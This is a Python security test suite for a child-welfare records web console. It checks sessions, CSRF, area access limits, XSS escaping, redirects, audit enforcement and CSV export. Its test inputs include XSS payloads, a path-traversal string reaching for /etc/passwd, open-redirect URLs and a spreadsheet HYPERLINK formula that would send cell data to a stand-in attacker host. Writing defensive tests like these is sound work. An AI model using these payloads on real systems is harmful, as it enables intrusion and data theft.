"""Attacks on the web console through a test client. A test that passes is a promise that held; a confirmed hole is
marked xfail(strict=True) with its reason until it was fixed; all of them are fixed now."""

import datetime as dt
import re

import pytest

from events.contracts.civil_affairs import KeyChildLedgerEntered
from events.contracts.education import Enrolled
from events.contracts.public_security import IdentityRecorded, ResidenceRegistered
from events.envelope import Envelope, encode
from privacy.audit import AuditFailed
from privacy.pseudonym import child_key, gb11643_check_char
from services.adapters.tokens import issue_token, revoke
from services.processor.handler import BatchHandler
from services.processor.messages import RawMessage
from services.usecases.protection import EdgeSealer, RecordProtector
from tests.integration.conftest import AREA, ID_NUMBER, T0
from tests.integration.test_console import csrf, sign_in

OTHER_AREA = "330107001"
XSS = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'




def _id_number(body17):
    return body17 + gb11643_check_char(body17)


OTHER_ID = _id_number("33010720140501001")  # a child living in another street's area


def seed(platform, id_number, name, area, offset=100, school="文一小学"):
    """One more child, processed as the department events would be."""
    k = child_key(platform.pseudonym_secret, id_number)
    seal = EdgeSealer(platform.cipher)
    events = [
        IdentityRecorded(name=name, id_number=id_number, sex="M", birth_date=dt.date(2014, 5, 1), hukou_area="522422"),
        ResidenceRegistered(area_code=area, address="某地某路2号"),
        KeyChildLedgerEntered(reasons=["family_hardship"], director_id="dir-x", entered_on=dt.date(2025, 1, 2)),
        Enrolled(school_code="S2", school_name=school, stage="primary", enrolled_on=dt.date(2024, 9, 1)),
    ]
    handler = BatchHandler(platform.store, platform.topics, "g", protect=RecordProtector(platform.cipher, None))
    handler.handle([RawMessage(platform.topics.department(p.DEPARTMENT), 0, offset + i, k.encode(),
                               encode(seal(Envelope.new(p, source=p.DEPARTMENT, child_key=k, occurred_at=T0))))
                    for i, p in enumerate(events)])
    return k


@pytest.fixture
def other(platform, key):
    return seed(platform, OTHER_ID, "王小明", OTHER_AREA)


def _audit_rows(platform):
    from services.usecases import compliance

    return compliance._rows(platform.database)


# --- sessions ------------------------------------------------------------------------------------------------------

def test_sign_in_never_adopts_a_session_id_the_attacker_planted(console, platform):
    planted = "attacker-chosen-session-id-0123456789"
    console.cookies.set("cc_session", planted, domain="testserver.local", path="/console")
    sign_in(console, platform, "children_director", purpose="key_child_care")
    sessions = console.app.state.console_sessions
    assert sessions.get(planted) is None
    r = console.get("/console/ledger", cookies={"cc_session": planted}, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/console/login"


def test_the_pre_session_cookie_is_httponly_strict_and_secure_and_login_csrf_needs_it(console, platform):
    page = console.get("/console/login")
    cookie = page.headers["set-cookie"]
    assert "cc_pre=" in cookie and "HttpOnly" in cookie and "Secure" in cookie and "samesite=strict" in cookie.lower()
    token = issue_token(platform.database, "d1", "children_director", AREA)
    # a cross-site form post carries no SameSite=Strict cookie: the csrf value copied from the attacker's own page fails
    console.cookies.clear()
    r = console.post("/console/login", data={"csrf": csrf(page.text), "token": token}, follow_redirects=False)
    assert r.status_code == 403 and "cc_session" not in r.headers.get("set-cookie", "")


def test_a_session_ends_after_its_absolute_lifetime(console, platform):
    sign_in(console, platform, "children_director", purpose="key_child_care")
    console.app.state.console_sessions.absolute_s = 0.0
    assert console.get("/console/ledger", follow_redirects=False).headers["location"] == "/console/login"


def test_a_cookie_replayed_after_sign_out_or_revocation_is_dead(console, platform):
    token = sign_in(console, platform, "children_director", name="rev-1", purpose="key_child_care")
    cookie = console.cookies.get("cc_session")
    revoke(platform.database, principal="rev-1")
    assert console.get("/console/ledger", follow_redirects=False).status_code == 303
    # the session was ended on the server: even a later re-activation of the same token would not revive it
    assert console.app.state.console_sessions.get(cookie) is None and token


def test_a_replayed_cookie_cannot_be_used_after_the_same_browser_signs_in_again(console, platform):
    """A shared office PC: user A walks away signed in, user B signs in on the same browser. A's old cookie (copied
    earlier) should be dead: signing in replaces the browser's session, so the old one should end on the server."""
    sign_in(console, platform, "children_director", name="user-a", purpose="key_child_care")
    old = console.cookies.get("cc_session")
    sign_in(console, platform, "children_director", name="user-b", purpose="key_child_care")
    assert console.app.state.console_sessions.get(old) is None


def test_sign_in_attempts_are_rate_limited(console, platform):
    page = console.get("/console/login")
    token = csrf(page.text)
    codes = [console.post("/console/login", data={"csrf": token, "token": f"guess-{i}"}).status_code
             for i in range(60)]
    assert 429 in codes


# --- CSRF ----------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("given", [None, "", "forged"])
def test_every_state_changing_form_refuses_a_missing_or_wrong_csrf_token(console, platform, key, given):
    sign_in(console, platform, "children_director", purpose="key_child_care")
    extra = {} if given is None else {"csrf": given}
    r = console.post("/console/purpose", data={"purpose": "key_child_care", **extra})
    assert r.status_code == 403
    r = console.post("/console/search", data={"id_number": ID_NUMBER, **extra})
    assert r.status_code == 403 and "孙小美" not in r.text
    r = console.post(f"/console/child/{key}/visit", data={"kind": "contact", "visited_on": dt.date.today().isoformat(),
                                                          "note": "x", **extra})
    assert r.status_code == 403 and console.ctx.publisher.sent == []
    r = console.post("/console/logout", data=extra, follow_redirects=False)
    assert r.status_code == 403
    assert console.get("/console/ledger").status_code == 200  # still signed in: the forged sign-out did nothing


def test_one_sessions_csrf_token_does_not_work_in_another(console, platform, key):
    sign_in(console, platform, "children_director", name="a", purpose="key_child_care")
    theirs = csrf(console.get("/console/search").text)
    console.cookies.clear()
    sign_in(console, platform, "children_director", name="b", purpose="key_child_care")
    assert console.post("/console/search", data={"csrf": theirs, "id_number": ID_NUMBER}).status_code == 403


def test_state_changing_routes_do_not_answer_get(console, platform, key):
    sign_in(console, platform, "children_director", purpose="key_child_care")
    assert console.get("/console/logout").status_code == 405
    assert console.get(f"/console/child/{key}/visit?kind=contact&note=x").status_code == 405
    assert console.ctx.publisher.sent == []


# --- areas ---------------------------------------------------------------------------------------------------------

def test_another_areas_child_is_invisible_through_every_page(console, platform, key, other):
    sign_in(console, platform, "children_director", purpose="key_child_care")  # area AREA: key is theirs, other not
    for url in ("/console/ledger", "/console/ledger?everyone=1", "/console/ledger?everyone=1&sort=risk",
                "/console/ledger?everyone=1&overdue=1", "/console/ledger?risk=high&everyone=1",
                "/console/ledger?risk=low&everyone=1", "/console/ledger?risk=medium&everyone=1", "/console/alerts"):
        page = console.get(url)
        assert page.status_code == 200 and other not in page.text and "王小明" not in page.text, url
    assert key in console.get("/console/ledger?everyone=1").text
    page = csrf(console.get("/console/search").text)
    for typed in (OTHER_ID, other, OTHER_ID.lower(), " " + OTHER_ID + " "):
        r = console.post("/console/search", data={"csrf": page, "id_number": typed})
        assert r.status_code == 404 and "王小明" not in r.text and other not in r.text, typed
    r = console.post(f"/console/child/{other}/visit",
                     data={"csrf": page, "kind": "contact", "visited_on": dt.date.today().isoformat(), "note": "x"})
    assert r.status_code == 404 and console.ctx.publisher.sent == []


def test_out_of_area_and_unknown_children_get_the_same_answer(console, platform, key, other):
    sign_in(console, platform, "children_director", purpose="key_child_care")
    unknown = "ck_" + "0" * 40
    a, b = console.get(f"/console/child/{other}"), console.get(f"/console/child/{unknown}")
    assert a.status_code == b.status_code == 404 and a.text == b.text
    assert dict(a.headers) == dict(b.headers)
    token = csrf(console.get("/console/search").text)
    unknown_id = _id_number("33010620150301999")
    a = console.post("/console/search", data={"csrf": token, "id_number": OTHER_ID})
    b = console.post("/console/search", data={"csrf": token, "id_number": unknown_id})
    assert a.status_code == b.status_code == 404 and a.text == b.text
    v = {"csrf": token, "kind": "contact", "visited_on": dt.date.today().isoformat()}
    a, b = (console.post(f"/console/child/{other}/visit", data=v),
            console.post(f"/console/child/{unknown}/visit", data=v))
    assert a.status_code == b.status_code == 404 and a.text == b.text


def test_a_director_with_a_broader_area_prefix_is_not_given_a_sibling_area(console, platform, key, other):
    """A token bound to 330106 (a county) must not see 3301070 children (a prefix of the code, not of the area)."""
    sign_in(console, platform, "children_director", area="330106", purpose="key_child_care")
    assert other not in console.get("/console/ledger?everyone=1").text


# --- other roles, purposes -----------------------------------------------------------------------------------------

def test_a_school_signing_in_sees_only_what_its_purpose_allows(console, platform, key):
    sign_in(console, platform, "school", area="330106", purpose="enrolment")
    assert console.get("/console/", follow_redirects=False).headers["location"] == "/console/search"
    r = console.post("/console/search",
                     data={"csrf": csrf(console.get("/console/search").text), "id_number": ID_NUMBER})
    assert r.status_code == 200 and "孙小美" in r.text
    assert "f-assistance-dibao" not in r.text and "f-guardianship" not in r.text
    for secret in ("浙江省杭州市西湖区文一路1号", "autism", "family_hardship", ID_NUMBER, "522422"):
        assert secret not in r.text, secret
    assert "visit-form" not in console.get(f"/console/child/{key}").text
    v = {"csrf": csrf(console.get("/console/search").text), "kind": "contact",
         "visited_on": dt.date.today().isoformat()}
    assert console.post(f"/console/child/{key}/visit", data=v).status_code == 403
    assert console.ctx.publisher.sent == []
    for url in ("/console/compliance", "/console/compliance/export.csv", "/console/statistics", "/console/operator"):
        assert console.get(url).status_code == 403, url


def test_a_machine_token_cannot_sign_in(console, platform, key):
    """A downstream app's or a department system's token is for the API, not for a person's console."""
    for name, role in (("app-1", "downstream_app"), ("civil_affairs:sys1", "department_system")):
        console.cookies.clear()
        token = issue_token(platform.database, name, role, "330106")
        page = console.get("/console/login")
        r = console.post("/console/login", data={"csrf": csrf(page.text), "token": token}, follow_redirects=False)
        assert r.status_code == 401 and "cc_session" not in r.headers.get("set-cookie", ""), role


@pytest.mark.parametrize("role,purpose", [("school", "enrolment"), ("health_worker", "health_management")])
def test_the_directors_ledger_and_alerts_are_for_directors_only(console, platform, key, role, purpose):
    sign_in(console, platform, role, area="330106", purpose=purpose)
    for url in ("/console/ledger?everyone=1", "/console/alerts"):
        page = console.get(url)
        assert page.status_code == 403 and key not in page.text, (role, url)


def test_purposes_of_another_role_are_refused_for_every_role(console, platform):
    for role, foreign in (("children_director", "statistics"), ("school", "key_child_care"),
                          ("statistician", "compliance_review"), ("operator", "key_child_care"),
                          ("compliance", "operations")):
        console.cookies.clear()
        sign_in(console, platform, role, area="330106")
        r = console.post("/console/purpose", data={"csrf": csrf(console.get("/console/purpose").text),
                                                   "purpose": foreign})
        assert r.status_code == 403, role
        assert console.get("/console/search", follow_redirects=False).headers["location"] == "/console/purpose"


# --- XSS -----------------------------------------------------------------------------------------------------------

def _legacy_names(monkeypatch):
    """Tokens issued before staff ids were restricted (services/adapters/tokens.py) may carry any name: the pages
    must still show it as text."""
    import re

    from services.adapters import tokens

    with pytest.raises(tokens.TokenRefused):
        tokens.validate_grant("<script>x</script>", "children_director", AREA)
    monkeypatch.setattr(tokens, "_STAFF_ID", re.compile(".+"))


def test_stored_values_are_escaped_everywhere_they_are_shown(console, platform, key, monkeypatch):
    _legacy_names(monkeypatch)
    bad = seed(platform, _id_number("33010620150301002"), XSS, AREA, school=XSS)
    sign_in(console, platform, "children_director", name="<script>x</script>", purpose="key_child_care")
    for url in ("/console/ledger?everyone=1", f"/console/child/{bad}", "/console/alerts"):
        page = console.get(url).text
        assert "<script>" not in page and "<img" not in page, url
    console.cookies.clear()
    sign_in(console, platform, "compliance", area=None, purpose="compliance_review")
    for url in (f"/console/compliance?view=actor&actor={XSS}",
                "/console/compliance?view=actor&actor=<script>x</script>",
                f"/console/compliance?view=child&child_key={bad}"):
        page = console.get(url).text
        assert "<script>" not in page and "<img" not in page, url
    assert "&lt;script&gt;x&lt;/script&gt;" in page  # the stored actor name is there, as text


@pytest.mark.parametrize("query", [f"view=actor&actor={XSS}", f"view=child&child_key={XSS}",
                                   f"view=actor&since={XSS}&until={XSS}", f"view={XSS}", f"threshold={XSS}",
                                   f"view=anomalies&threshold=-5&child_key={XSS}"])
def test_compliance_query_parameters_are_not_reflected_raw(console, platform, query):
    sign_in(console, platform, "compliance", area=None, purpose="compliance_review")
    r = console.get("/console/compliance?" + query)
    assert r.status_code < 500
    # a reflection is harmless only where the browser never renders it as HTML
    assert ("<script>" not in r.text and "<img" not in r.text) or (
        r.headers["content-type"].startswith("application/json") and r.headers["x-content-type-options"] == "nosniff")


@pytest.mark.parametrize("query", [f"rows={XSS}", f"cols={XSS}", f"threshold={XSS}", f"region={XSS}",
                                   "region=../../../etc/passwd", "rows=area&cols=area", "threshold=2",
                                   "threshold=99999999999999999999999999", "region=base&rows=service&cols=area"])
def test_statistics_parameters_neither_reflect_nor_crash(console, platform, key, query):
    sign_in(console, platform, "statistician", area=None, purpose="statistics")
    r = console.get("/console/statistics?" + query)
    assert r.status_code < 500 and "Traceback" not in r.text
    assert ("<script>" not in r.text and "<img" not in r.text) or (
        r.headers["content-type"].startswith("application/json") and r.headers["x-content-type-options"] == "nosniff")


@pytest.mark.parametrize("url", ["/console/statistics?threshold=abc", "/console/compliance?threshold=abc",
                                 "/console/compliance/export.csv?threshold=" + ID_NUMBER + "x"])
def test_a_malformed_query_parameter_gets_a_page_that_echoes_nothing(console, platform, url):
    role, purpose = ("statistician", "statistics") if "statistics" in url else ("compliance", "compliance_review")
    sign_in(console, platform, role, area=None, purpose=purpose)
    r = console.get(url)
    assert r.status_code == 422 and r.headers["content-type"].startswith("text/html") and ID_NUMBER not in r.text


def test_error_pages_do_not_reflect_the_path_or_input(console, platform, key):
    sign_in(console, platform, "children_director", purpose="key_child_care")
    for url in (f"/console/child/{XSS}", "/console/child/%3Cscript%3E", f"/console/nope{XSS}",
                "/console/login?error=" + XSS):
        r = console.get(url)
        assert "<script>" not in r.text and "<img" not in r.text, url


# --- personal values in URLs, hidden HTML, headers ----------------------------------------------------------------

def test_no_personal_value_in_hidden_html_or_links(console, platform, key):
    sign_in(console, platform, "children_director", purpose="key_child_care")
    page = console.get(f"/console/child/{key}").text
    for secret in (ID_NUMBER, "autism", "文一小学S1" if False else "S1\"", "data-"):
        assert secret not in page, secret
    hidden = re.findall(r'<input[^>]*type="hidden"[^>]*>', page)
    assert all('name="csrf"' in h for h in hidden)
    for href in re.findall(r'(?:href|action)="([^"]+)"', page + console.get("/console/ledger?everyone=1").text):
        assert "孙小美" not in href and ID_NUMBER not in href and "%E5%AD%99" not in href, href
    console.cookies.clear()
    sign_in(console, platform, "statistician", area=None, purpose="statistics")
    page = console.get("/console/statistics?rows=area&cols=sex").text
    assert key not in page and "孙小美" not in page and "ck_" not in page


def test_pages_with_personal_data_are_not_cached_and_carry_the_csp(console, platform, key):
    sign_in(console, platform, "children_director", purpose="key_child_care")
    token = csrf(console.get("/console/search").text)
    responses = [console.get(f"/console/child/{key}"), console.get("/console/ledger"), console.get("/console/alerts"),
                 console.post("/console/search", data={"csrf": token, "id_number": ID_NUMBER}),
                 console.get("/console/child/ck_" + "1" * 40), console.get("/console/login")]
    for r in responses:
        assert r.headers["cache-control"] == "no-store"
        csp = r.headers["content-security-policy"]
        assert "script-src" not in csp and "default-src 'none'" in csp and "frame-ancestors 'none'" in csp
        assert r.headers["x-frame-options"] == "DENY" and r.headers["referrer-policy"] == "no-referrer"


def test_no_redirect_leaves_the_site(console, platform):
    for url in ("/console/login?next=https://evil.example", "/console/?next=//evil.example",
                "/console//evil.example", "/console/purpose?return=https://evil.example"):
        r = console.get(url, follow_redirects=False)
        assert "evil" not in r.headers.get("location", ""), url
    sign_in(console, platform, "children_director")
    r = console.post("/console/purpose", data={"csrf": csrf(console.get("/console/purpose").text),
                                               "purpose": "key_child_care", "next": "https://evil.example"},
                     follow_redirects=False)
    assert r.headers["location"] == "/console/"


def test_the_compliance_child_box_does_not_send_what_is_typed_in_a_url(console, platform):
    sign_in(console, platform, "compliance", area=None, purpose="compliance_review")
    page = console.get("/console/compliance").text
    form = re.search(r'<form method="(\w+)" action="/console/compliance"', page)
    assert form and form.group(1).lower() == "post"


# --- malformed input -----------------------------------------------------------------------------------------------

def test_huge_or_malformed_form_bodies_never_give_a_500(console, platform, key):
    sign_in(console, platform, "children_director", purpose="key_child_care")
    token = csrf(console.get("/console/search").text)
    bodies = [b"csrf=" + token.encode() + b"&" + b"&".join(b"f%d=1" % i for i in range(200)),  # > max_num_fields
              b"csrf=" + token.encode() + b"&id_number=" + b"9" * 70_000,  # > 64 KiB
              b"\xff\xfe\x00csrf=" + token.encode() + b"&id_number=%ZZ%",
              b"csrf=" + token.encode() + b"&id_number=" + "３３０１０６２０１５０３０１１２３Ｘ".encode(),
              b"csrf=" + token.encode() + b"&id_number=" + b"1" * 3000,
              b"=&&&==csrf",
              b"csrf=" + token.encode() + b"&id_number=%00%00%00"]
    for url in ("/console/search", f"/console/child/{key}/visit", "/console/purpose", "/console/login"):
        for body in bodies:
            r = console.post(url, content=body, headers={"content-type": "application/x-www-form-urlencoded"})
            assert r.status_code < 500 and "Traceback" not in r.text, (url, body[:40], r.status_code)
    for visit in ({"visited_on": "9999-99-99"}, {"visited_on": "2026-02-30"}, {"visited_on": "0001-01-01"},
                  {"kind": "burglary"}, {"note": "x" * 5000}, {"note": "\x00" * 100}, {"visited_on": ""}):
        form = {"csrf": token, "kind": "contact", "visited_on": dt.date.today().isoformat(), **visit}
        r = console.post(f"/console/child/{key}/visit", data=form)
        assert r.status_code == 422 or (visit.get("note", "").startswith("\x00") and r.status_code in (200, 422)), visit


def test_the_visit_note_keeps_an_id_number_out_of_the_audit_trail(console, platform, key):
    sign_in(console, platform, "children_director", purpose="key_child_care")
    token = csrf(console.get(f"/console/child/{key}").text)
    console.post(f"/console/child/{key}/visit", data={"csrf": token, "kind": "contact",
                                                      "visited_on": dt.date.today().isoformat(),
                                                      "note": f"孩子身份证 {OTHER_ID}"})
    assert not any(OTHER_ID in str(row) for row in _audit_rows(platform))


# --- statistics ----------------------------------------------------------------------------------------------------

def test_the_statistics_page_never_publishes_a_small_count(console, platform, key):
    for i in range(3):
        seed(platform, _id_number(f"3301062016010100{i}"), f"童{i}", AREA, offset=200 + 10 * i)
    sign_in(console, platform, "statistician", area=None, purpose="statistics")
    for threshold in (3, 5):
        for rows, cols in (("area", "age_band"), ("area", "sex"), ("sex", "age_group"), ("risk", "area")):
            page = console.get(f"/console/statistics?rows={rows}&cols={cols}&threshold={threshold}").text
            cells = re.findall(r"<td[^>]*>(\d+)</td>", page.split('id="stats"')[1].split("</table>")[0])
            assert all(int(c) == 0 or int(c) >= threshold for c in cells), (rows, cols, threshold, cells)
            svg = page.split("<svg")[1] if "<svg" in page else ""
            bars = re.findall(r'font-size="11">(\d+)</text>', svg)
            assert all(int(b) == 0 or int(b) >= threshold for b in bars), (threshold, bars)


def _seed_many(platform, specs):
    seal = EdgeSealer(platform.cipher)
    handler = BatchHandler(platform.store, platform.topics, "g", protect=RecordProtector(platform.cipher, None))
    msgs = []
    for n, (area, born, sex) in enumerate(specs):
        body = f"5224222010{n:07d}"[:17]
        idn = body + gb11643_check_char(body)
        k = child_key(platform.pseudonym_secret, idn)
        events = [IdentityRecorded(name=f"c{n}", id_number=idn, sex=sex, birth_date=born, hukou_area="522422"),
                  ResidenceRegistered(area_code=area, address="x", since=dt.date(2023, 1, 1))]
        msgs += [RawMessage(platform.topics.department(p.DEPARTMENT), 0, 1000 + 2 * n + j, k.encode(),
                            encode(seal(Envelope.new(p, source=p.DEPARTMENT, child_key=k, occurred_at=T0))))
                 for j, p in enumerate(events)]
    handler.handle(msgs)


def test_the_chart_never_shows_a_cell_the_table_beside_it_suppressed(console, platform):
    """Two publications of the same counts on one page (the service x area table and the entitled bars) must hide
    the same cells, or the chart hands back what the table's complementary suppression protected."""
    import html
    import random

    rnd = random.Random(1)
    _seed_many(platform, [(rnd.choice(["330106001", "330105001", "330108001", "330102001"]),
                           dt.date(rnd.randint(2009, 2024), rnd.randint(1, 12), 1), rnd.choice("MF"))
                          for _ in range(60)])
    sign_in(console, platform, "statistician", area=None, purpose="statistics")
    for threshold in (3, 5, 8):
        page = console.get(f"/console/statistics?rows=service&cols=area&threshold={threshold}").text
        table = page.split('id="stats"')[1].split("</table>")[0]
        cols = re.findall(r"<th>([^<]*)</th>", table.split("</thead>")[0])[1:-1]
        hidden = set()
        for item, cells in re.findall(r"<tr><th>([^<]*)</th>(.*?)</tr>", table.split("</thead>")[1], re.S):
            for area, v in zip(cols, re.findall(r"<td[^>]*>([^<]*)</td>", cells), strict=False):
                if v == "已抑制":
                    hidden.add(f"{area} · {html.unescape(item)}")
                else:
                    assert int(v) == 0 or int(v) >= threshold
        assert hidden, "the data should make the table suppress something"
        for label, bars in re.findall(r'font-size="12">([^<]*)</text>((?:<rect[^>]*/><text[^>]*>[^<]*</text>)+)',
                                      page):
            shown = re.findall(r'font-size="11">([^<]*)<', bars)
            if html.unescape(label) in hidden:
                assert all(v == "已抑制" for v in shown), (threshold, label, shown)


# --- audit first, everywhere ---------------------------------------------------------------------------------------

def _break_audit(console, monkeypatch):
    def broken(event):
        raise AuditFailed("disk full")

    monkeypatch.setattr(console.ctx.audit, "append", broken)


@pytest.mark.parametrize("role,purpose,urls", [
    ("children_director", "key_child_care", ["/console/ledger?everyone=1", "/console/alerts", "/console/child/{key}"]),
    ("compliance", "compliance_review", ["/console/compliance", "/console/compliance?view=child&child_key={key}",
                                         "/console/compliance/export.csv?view=child&child_key={key}"]),
    ("statistician", "statistics", ["/console/statistics"]),
    ("operator", "operations", ["/console/operator"]),
])
def test_an_audit_failure_refuses_every_page_with_data(console, platform, key, monkeypatch, role, purpose, urls):
    sign_in(console, platform, role, area=AREA if role == "children_director" else None, purpose=purpose)
    _break_audit(console, monkeypatch)
    for url in urls:
        r = console.get(url.format(key=key))
        assert (r.status_code == 503 and "孙小美" not in r.text
                and key not in r.text.replace(f"child_key={key}", "")), url


def test_an_audit_failure_refuses_search_and_the_visit_form(console, platform, key, monkeypatch):
    sign_in(console, platform, "children_director", purpose="key_child_care")
    token = csrf(console.get("/console/search").text)
    _break_audit(console, monkeypatch)
    r = console.post("/console/search", data={"csrf": token, "id_number": ID_NUMBER})
    assert r.status_code == 503 and "孙小美" not in r.text
    r = console.post(f"/console/child/{key}/visit",
                     data={"csrf": token, "kind": "contact", "visited_on": dt.date.today().isoformat()})
    assert r.status_code == 503 and console.ctx.publisher.sent == []


def test_an_audit_failure_at_sign_in_is_a_page_not_a_crash_and_grants_no_session(console, platform, monkeypatch):
    token = issue_token(platform.database, "d1", "children_director", AREA)
    page = console.get("/console/login")
    _break_audit(console, monkeypatch)
    r = console.post("/console/login", data={"csrf": csrf(page.text), "token": token}, follow_redirects=False)
    assert r.status_code == 503 and "cc_session" not in r.headers.get("set-cookie", "")
    assert r.headers["content-type"].startswith("text/html"), "a JSON body instead of the console's page"


def test_every_data_page_view_writes_an_audit_record(console, platform, key):
    sign_in(console, platform, "children_director", name="watched", purpose="key_child_care")
    for url in ("/console/ledger", "/console/alerts", f"/console/child/{key}"):
        before = len(_audit_rows(platform))
        console.get(url)
        new = _audit_rows(platform)[before:]
        assert any(r["actor"] == "watched" and r["child_key"] == key and r["outcome"] == "allowed" for r in new), url


# --- CSV export ----------------------------------------------------------------------------------------------------

def test_the_csv_export_neutralises_formula_cells(console, platform, key, monkeypatch):
    _legacy_names(monkeypatch)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    sign_in(console, platform, "children_director", area=AREA, name=evil, purpose="key_child_care")
    console.get(f"/console/child/{key}")
    console.cookies.clear()
    sign_in(console, platform, "compliance", area=None, purpose="compliance_review")
    csv = console.get(f"/console/compliance/export.csv?view=child&child_key={key}").text
    import csv as csvlib
    import io

    cells = [c for row in csvlib.reader(io.StringIO(csv)) for c in row]
    assert evil not in cells and not any(c[:1] in ("=", "+", "-", "@") for c in cells if c)


def test_compliance_queries_are_refused_to_other_roles_including_the_export(console, platform, key):
    for role, purpose in (("children_director", "key_child_care"), ("statistician", "statistics"),
                          ("operator", "operations")):
        console.cookies.clear()
        sign_in(console, platform, role, area=AREA if role == "children_director" else None, purpose=purpose)
        r = console.get(f"/console/compliance/export.csv?view=child&child_key={key}")
        assert r.status_code == 403 and "text/csv" not in r.headers["content-type"], role


# --- more: stored values through the visit form, tokens and ID numbers in the trail, the API's rate limit --------

def test_a_visit_note_with_markup_is_shown_escaped_after_processing(console, platform, key):
    sign_in(console, platform, "children_director", purpose="key_child_care")
    token = csrf(console.get(f"/console/child/{key}").text)
    r = console.post(f"/console/child/{key}/visit", data={"csrf": token, "kind": "home_visit",
                                                          "visited_on": dt.date.today().isoformat(), "note": XSS})
    assert r.status_code == 200
    (env,) = console.ctx.publisher.sent
    handler = BatchHandler(platform.store, platform.topics, "g", protect=RecordProtector(platform.cipher, None))
    handler.handle([RawMessage(platform.topics.department("civil_affairs"), 0, 999, key.encode(),
                               encode(EdgeSealer(platform.cipher)(env)))])
    page = console.get(f"/console/child/{key}").text
    assert "f-ledger-last_visit_note" in page  # the note is shown ...
    assert "<script>" not in page and "<img" not in page  # ... as text


def test_a_wrong_token_and_an_id_number_in_a_path_never_reach_the_page_or_the_trail(console, platform, key):
    page = console.get("/console/login")
    guess = "cct_this-is-somebodys-almost-right-token"
    r = console.post("/console/login", data={"csrf": csrf(page.text), "token": guess})
    assert guess not in r.text
    sign_in(console, platform, "children_director", purpose="key_child_care")
    r = console.get(f"/console/child/{ID_NUMBER}")
    assert r.status_code == 404 and ID_NUMBER not in r.text
    token = csrf(console.get("/console/search").text)
    console.post("/console/search", data={"csrf": token, "id_number": ID_NUMBER[:-1] + "0"})  # fails its check char
    trail = str(_audit_rows(platform))
    assert guess not in trail and ID_NUMBER not in trail and ID_NUMBER[:-1] not in trail


def test_the_console_is_held_to_the_same_per_principal_rate_limit_as_the_api(console, platform, key):
    from services.entrypoints.api.deps import RateLimiter

    console.app.state.rate_limiter = RateLimiter(rate=0.5, burst=10)  # a small bucket, so the test is quick
    token = sign_in(console, platform, "children_director", name="scraper", purpose="key_child_care")
    api = [console.get(f"/children/{key}", headers={"Authorization": f"Bearer {token}", "X-Purpose": "key_child_care"})
           .status_code for _ in range(30)]
    assert 429 in api  # the API's limit holds for this principal ...
    pages = [console.get(f"/console/child/{key}").status_code for _ in range(30)]
    assert 429 in pages  # ... and the console should answer the same way


@pytest.mark.parametrize("url", ["/console/login", "/console/purpose", "/console/search", "/console/logout",
                                 "/console/child/{key}/visit"])
def test_a_non_ascii_csrf_value_is_refused_not_a_crash(console, platform, key, url):
    if url != "/console/login":
        sign_in(console, platform, "children_director", purpose="key_child_care")
    else:
        console.get("/console/login")
    r = console.post(url.format(key=key), data={"csrf": "令牌", "token": "x", "purpose": "key_child_care",
                                                 "id_number": ID_NUMBER, "kind": "contact"})
    assert r.status_code == 403, r.status_code


def test_the_csv_export_is_an_uncached_attachment_that_a_browser_will_not_render(console, platform, key):
    sign_in(console, platform, "compliance", area=None, purpose="compliance_review")
    r = console.get(f"/console/compliance/export.csv?view=child&child_key={key}")
    assert r.headers["cache-control"] == "no-store" and r.headers["x-content-type-options"] == "nosniff"
    assert (r.headers["content-disposition"].startswith("attachment")
            and r.headers["content-type"].startswith("text/csv"))


def test_a_pre_session_value_the_server_never_issued_is_refused(console, platform):
    planted = "planted-by-a-sibling-host"
    attacker_page = console.get("/console/login", cookies={"cc_pre": planted})  # the attacker learns its csrf value
    token = issue_token(platform.database, "attacker-director", "children_director", OTHER_AREA)
    console.cookies.clear()
    console.cookies.set("cc_pre", planted, domain="testserver.local", path="/console")  # planted in the victim's jar
    r = console.post("/console/login", data={"csrf": csrf(attacker_page.text), "token": token}, follow_redirects=False)
    assert r.status_code == 403


def test_roles_that_read_no_child_cannot_search(console, platform, key):
    for role, purpose in (("statistician", "statistics"), ("compliance", "compliance_review"),
                          ("operator", "operations")):
        console.cookies.clear()
        sign_in(console, platform, role, area=None, purpose=purpose)
        r = console.post("/console/search", data={"csrf": csrf(console.get("/console/purpose").text),
                                                  "id_number": ID_NUMBER})
        assert r.status_code == 403 and "孙小美" not in r.text and key not in r.text, role
        assert console.get(f"/console/child/{key}").status_code == 403, role
